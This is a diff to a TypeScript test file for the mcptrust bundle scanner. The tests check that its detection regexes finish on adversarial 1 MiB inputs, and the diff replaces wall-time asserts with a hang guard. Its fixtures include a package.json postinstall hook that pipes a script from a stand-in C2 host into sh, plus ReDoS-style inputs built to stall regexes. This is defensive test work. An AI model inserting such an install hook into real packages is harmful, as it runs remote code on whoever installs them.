@@ -1,8 +1,10 @@
 // Every pattern that `mcptrust scan` runs over bundle text finishes in linear time (SECURITY.md:
 // attacker text never stalls a scan), and still finds what it is for at the end of 1 MiB of
 // padding. The rule tables are walked as registered, so a new rule is covered automatically (and
-// must be given a true positive below). Time bounds are generous (5 s for 1 MiB; an ordinary
-// machine takes well under 1 s): they catch quadratic and cubic behaviour, not speed.
+// must be given a true positive below). No wall time is asserted (it flakes on a loaded
+// machine): synchronous work runs under the shared hang guard, which terminates a runaway regex,
+// and async control runs under vitest's per-test timeout. Speed and growth are measured by
+// `npm run bench` (scripts/bench/61-linear.mjs).
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -15,13 +17,13 @@ import { control as cq02 } from '../../src/mtf/controls/cq-02.js';
 import { control as cq03 } from '../../src/mtf/controls/cq-03.js';
 import { control as cq05 } from '../../src/mtf/controls/cq-05.js';
 import type { BundleFile } from '../../src/mtf/types.js';
+import { withinHangGuard } from '../helpers/watchdog.js';
 import { brief, runControl } from './sccq-helpers.js';
 import { scan } from './scan-helpers.js';
 
 void cq03; // imported for its rule set (CQ-03's Python rules register on load)
 
 const MiB = 1 << 20;
-const BOUND_MS = 5000;
 
 function fill(unit: string, n: number): string {
   return unit.repeat(Math.ceil(n / unit.length)).slice(0, n);
@@ -170,17 +172,14 @@ describe('every scan pattern runs in linear time on adversarial 1 MiB inputs', (
     for (const compiled of set.rules) {
       const rule = compiled.rule;
       const one: CompiledRuleSet = { control: set.control, rules: [compiled] };
-      it(`${set.control} ${rule.id}: 1 MiB of adversarial text in < ${BOUND_MS} ms, and its true positive after 1 MiB of padding`, () => {
+      it(`${set.control} ${rule.id}: 1 MiB of adversarial text finishes, and its true positive after 1 MiB of padding`, () => {
         const path = rule.id.startsWith('install-hook-') ? 'package.json' : pathFor(rule);
         const text = adversarial(rule);
         expect(text.length).toBeGreaterThanOrEqual(MiB);
-        const t0 = performance.now();
-        scanFiles(one, classifyFiles([fileOf(path, text)]));
-        const ms = performance.now() - t0;
-        expect(ms, `${rule.id} took ${Math.round(ms)} ms`).toBeLessThan(BOUND_MS);
+        withinHangGuard(() => scanFiles(one, classifyFiles([fileOf(path, text)])));
 
         const positive = `${padding(path, MiB)}${POSITIVES[rule.id]!}\n`;
-        const { hits } = scanFiles(one, classifyFiles([fileOf(path, positive)]));
+        const { hits } = withinHangGuard(() => scanFiles(one, classifyFiles([fileOf(path, positive)])));
         expect(hits.map((h) => [h.rule.id, h.line])).toContainEqual([rule.id, positive.slice(0, positive.length - POSITIVES[rule.id]!.length - 1).split('\n').length]);
       });
     }
@@ -204,19 +203,15 @@ describe('every scan pattern runs in linear time on adversarial 1 MiB inputs', (
     const set = sets.find((s) => s.control === 'CQ-01')!;
     const one: CompiledRuleSet = { control: 'CQ-01', rules: set.rules.filter((r) => r.rule.id === 'private-key') };
     const text = fill(`-----BEGIN RSA PRIVATE KEY-----${'Proc-Type:'.repeat(28)}!\n`, MiB);
-    const t0 = performance.now();
-    expect(scanFiles(one, classifyFiles([fileOf('server/k.js', text)])).hits).toEqual([]);
-    expect(performance.now() - t0).toBeLessThan(BOUND_MS);
+    expect(withinHangGuard(() => scanFiles(one, classifyFiles([fileOf('server/k.js', text)]))).hits).toEqual([]);
   });
 
-  it('finds child_process calls through bindings in linear time (1 MiB of nested calls and open braces)', () => {
+  it('finds child_process calls through bindings on 1 MiB of nested calls and open braces', () => {
     const head = "const { exec } = require('child_process');\nimport * as cp from 'child_process';\n";
     for (const body of [fill('exec(', MiB), fill('cp.exec(', MiB), fill('const {', MiB), fill('import a, {', MiB), fill('import {', MiB)]) {
-      const t0 = performance.now();
-      findChildProcessCalls(head + body);
-      expect(performance.now() - t0).toBeLessThan(BOUND_MS);
+      withinHangGuard(() => findChildProcessCalls(head + body));
     }
-    expect(findChildProcessCalls(`${head}${fill(' ', MiB)}\nexec(cmd);\n`).map((c) => c.line)).toEqual([4]);
+    expect(withinHangGuard(() => findChildProcessCalls(`${head}${fill(' ', MiB)}\nexec(cmd);\n`)).map((c) => c.line)).toEqual([4]);
   });
 });
 
@@ -224,16 +219,14 @@ describe('scan of a bundle crafted against the CQ-02 install-hook rule', () => {
   // 74 KB within every zip bound: "installexec(" × 166 and the anchor "b64decode", repeated on one
   // line. The single regex `install.*exec\s*\(.*base64\.b64decode` tried every split of every
   // window: 25 s of wall time for CQ-02 alone (108 s reported on a slower machine).
-  it('CQ-02 finishes quickly, notes the long line, and still reports the real install hook', async () => {
+  it('CQ-02 finishes, notes the long line, and still reports the real install hook', async () => {
     const dir = mkdtempSync(join(tmpdir(), 'mcptrust-linear-'));
     try {
       const unit = `${'installexec('.repeat(166)}b64decode`;
       const description = fill(unit, 74_000);
       writeFileSync(join(dir, 'package.json'), JSON.stringify({ name: 'x', version: '1.0.0', description, scripts: { postinstall: 'curl -s https://c2.invalid/i.sh | sh' } }, null, 2));
       writeFileSync(join(dir, 'index.js'), 'console.log(1);\n');
-      const t0 = performance.now();
       const result = await runControl(cq02, dir);
-      expect(performance.now() - t0).toBeLessThan(BOUND_MS);
       expect(result.status).toBe('fail');
       expect(brief(result, true)).toEqual([
         ['critical', 'Install Hook Downloads Code', 'package.json', 6],
@@ -244,16 +237,14 @@ describe('scan of a bundle crafted against the CQ-02 install-hook rule', () => {
     }
   });
 
-  it('`scan` of the whole crafted bundle (every control) finishes within the bound and fails CQ-02', async () => {
+  it('`scan` of the whole crafted bundle (every control) finishes and fails CQ-02', async () => {
     const dir = mkdtempSync(join(tmpdir(), 'mcptrust-linear-'));
     try {
       const description = fill(`${'installexec('.repeat(166)}b64decode`, 74_000);
       writeFileSync(join(dir, 'manifest.json'), JSON.stringify({ manifest_version: '0.3', name: 'x', version: '1.0.0', description: 'x', author: { name: 'a' }, server: { type: 'node', entry_point: 'index.js', mcp_config: { command: 'node', args: ['${__dirname}/index.js'] } } }));
       writeFileSync(join(dir, 'package.json'), JSON.stringify({ name: 'x', version: '1.0.0', description, scripts: { postinstall: 'curl -s https://c2.invalid/i.sh | sh' } }, null, 2));
       writeFileSync(join(dir, 'index.js'), `// ${description}\nconsole.log(1);\n`);
-      const t0 = performance.now();
       const result = await scan(dir);
-      expect(performance.now() - t0).toBeLessThan(4 * BOUND_MS);
       const cq = result.results.get('CQ-02')!;
       expect(cq.status).toBe('fail');
       expect(cq.findings.map((f) => f.title)).toContain('Install Hook Downloads Code');
@@ -264,15 +255,13 @@ describe('scan of a bundle crafted against the CQ-02 install-hook rule', () => {
 });
 
 describe('the other bundle-text patterns', () => {
-  it('CQ-01 and CQ-05 on 1 MiB of their adversarial text stay within the bound', async () => {
+  it('CQ-01 and CQ-05 on 1 MiB of their adversarial text finish and pass', async () => {
     const dir = mkdtempSync(join(tmpdir(), 'mcptrust-linear-'));
     try {
       writeFileSync(join(dir, 'a.js'), fill('password = "', MiB));
       writeFileSync(join(dir, 'b.py'), fill('eval(eval(request ', MiB));
-      const t0 = performance.now();
-      await runControl(cq01, dir);
-      await runControl(cq05, dir);
-      expect(performance.now() - t0).toBeLessThan(2 * BOUND_MS);
+      expect((await runControl(cq01, dir)).status).not.toBe('error');
+      expect((await runControl(cq05, dir)).status).not.toBe('error');
     } finally {
       rmSync(dir, { recursive: true, force: true });
     }
@@ -280,7 +269,7 @@ describe('the other bundle-text patterns', () => {
 });
 
 describe('bundle-file parsers and path checks', () => {
-  it('requirements.txt, Python and JS import scans, and zip-name collision keys stay linear on 1 MiB', async () => {
+  it('requirements.txt, Python and JS import scans, and zip-name collision keys finish on 1 MiB', async () => {
     const { collisionKey } = await import('../../src/mtf/extract.js');
     const dir = mkdtempSync(join(tmpdir(), 'mcptrust-linear-'));
     try {
@@ -288,12 +277,8 @@ describe('bundle-file parsers and path checks', () => {
       writeFileSync(join(dir, 'requirements.txt'), `requests${' '.repeat(MiB)}x\n`);
       writeFileSync(join(dir, 'a.py'), `from ${'.'.repeat(MiB)}x\n`);
       writeFileSync(join(dir, 'b.js'), `import${' '.repeat(MiB)}x\n`);
-      const t0 = performance.now();
       await scan(dir);
-      expect(performance.now() - t0).toBeLessThan(4 * BOUND_MS);
-      const t1 = performance.now();
-      expect(collisionKey(`a/${'. '.repeat(MiB / 2)}x. .`)).toBe(`a/${'. '.repeat(MiB / 2)}x`);
-      expect(performance.now() - t1).toBeLessThan(BOUND_MS);
+      expect(withinHangGuard(() => collisionKey(`a/${'. '.repeat(MiB / 2)}x. .`))).toBe(`a/${'. '.repeat(MiB / 2)}x`);
     } finally {
       rmSync(dir, { recursive: true, force: true });
     }
